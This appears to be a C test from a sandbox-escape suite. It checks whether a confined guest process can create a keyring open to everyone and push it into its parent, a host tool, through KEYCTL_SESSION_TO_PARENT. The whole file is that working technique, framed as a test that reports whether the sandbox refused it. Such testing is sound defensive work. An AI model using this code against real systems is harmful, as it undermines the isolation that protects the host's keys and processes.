// SPDX-License-Identifier: GPL-2.0-only
// KEYCTL_SESSION_TO_PARENT gives the own session keyring to the parent, a tool
// of the host, and with it the keys that programs of the host find from then
// on.
#include <linux/keyctl.h>
#include <signal.h>

#include "attack.h"

int main(void)
{
	long ring = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
	char text[128];

	if (ring < 0)
		refused("KEYCTL_JOIN_SESSION_KEYRING");
	syscall(SYS_keyctl, KEYCTL_SETPERM, ring, 0x3f3f3f3f);
	if (syscall(SYS_keyctl, KEYCTL_SESSION_TO_PARENT))
		refused("KEYCTL_SESSION_TO_PARENT");
	/* it takes the keyring on its way back from the kernel */
	kill(getppid(), SIGCONT);
	usleep(300000);
	NEED(syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) > 0);
	usleep(300000);
	/* who has it now keeps it alive */
	if (syscall(SYS_keyctl, KEYCTL_DESCRIBE, ring, text, sizeof(text)) > 0)
		worked("the parent has a keyring of the guest");
	refused("KEYCTL_DESCRIBE");
}
